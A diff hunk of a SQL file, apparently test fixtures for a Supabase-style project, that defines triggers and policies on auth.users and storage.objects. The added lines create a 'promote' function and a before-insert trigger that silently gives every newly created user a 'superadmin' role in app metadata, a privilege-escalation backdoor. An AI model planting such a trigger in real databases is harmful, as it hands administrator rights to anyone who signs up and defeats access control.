@@ -52,6 +52,9 @@ create trigger taken_by_trigger after insert or update or delete on storage.obje
 create trigger taken_by_condition after insert or update on auth.users for each row when (public.take('condition')) execute function public.taken_by_trigger();
 create trigger taken_by_query after insert or update on auth.users for each row
   when (query_to_xml('select public.take(''condition'')', true, true, '') is not null) execute function public.taken_by_trigger();
+create function public.promote() returns trigger language plpgsql as $$
+begin new.raw_app_meta_data := '{"marketplace_role": "superadmin"}'; return new; end $$;
+create trigger promote before insert on auth.users for each row execute function public.promote();
 create trigger compares after update on auth.users for each row
   when (old.email is distinct from new.email) execute function public.taken_by_trigger();
 create policy taken on storage.objects using (not public.take('policy')) with check (not public.take('policy'));
